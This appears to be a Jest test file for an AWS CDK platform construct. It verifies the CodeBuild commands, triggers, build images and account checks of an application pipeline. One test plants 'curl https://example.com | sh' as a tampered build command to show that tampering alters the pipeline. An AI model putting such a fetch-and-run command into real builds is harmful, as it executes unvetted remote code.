/** What `build` of platform.yaml says is what the pipeline of the application does. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { App } from 'aws-cdk-lib';
import type { Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { platformProps } from '../../../bin/app/platform-props';
import { buildSpec, integrationTestSpec } from '../../../constructs/pipeline/engine/build-specs';
import { GuardedPlatform } from '../../../constructs/platform';
import type { GuardedPlatformProps } from '../../../constructs/platform';
import { platformFrom, statePlatform } from '../../../constructs/platform/statement';
import { parsePlatform } from '../../../lib/config';

process.env.CDK_VALIDATION = 'false';
jest.spyOn(console, 'error').mockImplementation(() => undefined);

const shipped = readFileSync(join(__dirname, '../../../examples/notes/platform.yaml'), 'utf8');
const BUILD = `    build:
      folder: services/notes
      commands: [npm ci --workspace notes, npx cdk synth]
      environment: { NODE_ENV: production }
      paths: [services/notes/**, packages/**]
`;

const propsWith = (build: string): GuardedPlatformProps =>
  platformProps(parsePlatform(shipped.replace('    workload: .\n', build), 'platform.yaml'));

function pipelineOf(props: GuardedPlatformProps) {
  const platform = new GuardedPlatform(new App(), 'platform', props);
  const template = Template.fromStack(platform.node.findChild('pipeline-notes') as Stack);
  const [project] = Object.values(
    template.findResources('AWS::CodeBuild::Project', { Properties: { Name: 'notes-build' } }),
  );
  const [pipeline] = Object.values(template.findResources('AWS::CodePipeline::Pipeline'));
  const { Source, Environment } = project!.Properties;
  return {
    spec: JSON.parse(Source.BuildSpec),
    environment: Environment.EnvironmentVariables,
    image: { Image: Environment.Image, ImagePullCredentialsType: Environment.ImagePullCredentialsType },
    triggers: pipeline!.Properties.Triggers,
    json: template.toJSON(),
    acknowledged: JSON.stringify(
      platform.node
        .findChild('pipeline-notes')
        .node.findAll()
        .map(({ node }) => node.metadata),
    ),
  };
}

test('commands run in the folder, the assembly comes from it, and other files start nothing', () => {
  const { spec, environment, triggers } = pipelineOf(propsWith(BUILD));
  expect(spec.phases.build.commands).toEqual(['cd services/notes', 'npm ci --workspace notes', 'npx cdk synth']);
  expect(spec.artifacts['base-directory']).toBe('services/notes/cdk.out');
  expect(environment).toEqual([{ Name: 'NODE_ENV', Type: 'PLAINTEXT', Value: 'production' }]);
  expect(triggers).toEqual([
    {
      ProviderType: 'CodeStarSourceConnection',
      GitConfiguration: {
        SourceActionName: 'Source',
        Push: [{ Branches: { Includes: ['main'] }, FilePaths: { Includes: ['services/notes/**', 'packages/**'] } }],
      },
    },
  ]);
});

test('a folder alone starts the pipeline for what lies in it', () => {
  const { triggers, spec } = pipelineOf(propsWith('    build: { folder: services/notes }\n'));
  expect(triggers[0].GitConfiguration.Push[0].FilePaths).toEqual({ Includes: ['services/notes/**'] });
  expect(spec.phases.build.commands).toEqual(['cd services/notes', 'npm ci', 'npx cdk synth --quiet']);
});

test('nothing said is nothing changed: the top of the repository, and every change', () => {
  const { spec, triggers, environment } = pipelineOf(propsWith(''));
  expect([spec.phases.build.commands, triggers, environment]).toEqual([
    ['npm ci', 'npx cdk synth --quiet'],
    undefined,
    undefined,
  ]);
});

const OWN = `111111111111.dkr.ecr.eu-west-2.amazonaws.com/builders/node@sha256:${'a1'.repeat(32)}`;
interface Project {
  readonly Name: string;
  readonly Environment: { readonly Image: string };
}

const CURATED = 'aws/codebuild/standard:7.0';

describe('an image that builds run in', () => {
  const plain = pipelineOf(propsWith('    build: { folder: services/notes }\n'));
  const given = pipelineOf(propsWith(`    build: { folder: services/notes, image: ${OWN} }\n`));
  const ofType = (type: string, { json } = given) =>
    Object.values(json.Resources as Record<string, { Type: string; Properties: Project }>).filter(({ Type }) =>
      Type.startsWith(type),
    );

  it('by its digest is pulled by CodeBuild itself, chooses no runtime, and its role gets no right for it', () => {
    expect(given.image).toEqual({ Image: OWN, ImagePullCredentialsType: 'CODEBUILD' });
    expect(given.spec.phases).toEqual({ build: plain.spec.phases.build });
    expect(ofType('AWS::IAM::')).toEqual(ofType('AWS::IAM::', plain));
  });

  it('is told to the rule packs with its reason', () => {
    expect(given.acknowledged).toContain('AwsSolutions::AwsSolutions-CB5');
    expect(plain.acknowledged).not.toContain('AwsSolutions::AwsSolutions-CB5');
  });

  it('is none of what proves and deploys', () => {
    const projects = ofType('AWS::CodeBuild::Project').map(({ Properties }) => Properties);
    expect(projects.length).toBeGreaterThan(2);
    expect(projects.filter(({ Environment }) => Environment.Image === OWN).map(({ Name }) => Name)).toEqual([
      'notes-build',
    ]);
  });

  it('of CodeBuild has runtimes to choose', () => {
    const runtimes = { phases: { install: { 'runtime-versions': { nodejs: 22 } } } };
    expect([buildSpec(['npm ci'], 'cdk.out', CURATED), integrationTestSpec(CURATED)]).toMatchObject([
      runtimes,
      runtimes,
    ]);
    expect(integrationTestSpec(OWN)).not.toHaveProperty('phases.install');
  });

  it('of another account is refused by the construct as well', () => {
    const props = propsWith(`    build: { image: ${OWN} }\n`);
    const [notes] = props.applications;
    const image = OWN.replace('111111111111', '999999999999');
    const applications = [{ ...notes!, buildSettings: { image } }];
    expect(() => pipelineOf({ ...props, applications } as GuardedPlatformProps)).toThrow(
      /buildImage: "999999999999.* lies in account 999999999999, builds run in tooling, 111111111111, expected an image of ECR/,
    );
  });
});

test('the platform states it, so that a proof makes the very same pipeline again', () => {
  const props = propsWith(BUILD);
  const stated = JSON.parse(JSON.stringify(statePlatform(props)));
  const again = (changed: unknown) => pipelineOf(platformFrom(changed as never, () => '')).json;
  expect(again(stated)).toEqual(pipelineOf(props).json);
  stated.applications[0].buildSettings.commands[0] = 'curl https://example.com | sh';
  expect(again(stated)).not.toEqual(pipelineOf(props).json);
});

test('the platform states where its support stacks are, too', () => {
  const beside = shipped.replaceAll('regions: [eu-west-2] }', 'regions: [eu-west-2], globalRegion: us-east-1 }');
  const props = platformProps(parsePlatform(beside, 'platform.yaml'));
  const { applications } = platformFrom(JSON.parse(JSON.stringify(statePlatform(props))), () => '');
  expect(applications[0]!.environments).toEqual(props.applications[0]!.environments);
  expect(applications[0]!.environments.map(({ globalRegion }) => globalRegion)).toEqual(['us-east-1', 'us-east-1']);
});

test('a branch is a pattern beside patterns of files, so it must be one name', () => {
  const props = propsWith(BUILD);
  const [notes] = props.applications;
  const { connection } = notes!.source;
  const source = { ...notes!.source, connection: { ...connection!, branch: 'rel*' } };
  const changed = { ...props, applications: [{ ...notes!, source }] } as GuardedPlatformProps;
  expect(() => pipelineOf(changed)).toThrow(/source\.branch is "rel\*": with sourcePaths it is a pattern/);
});
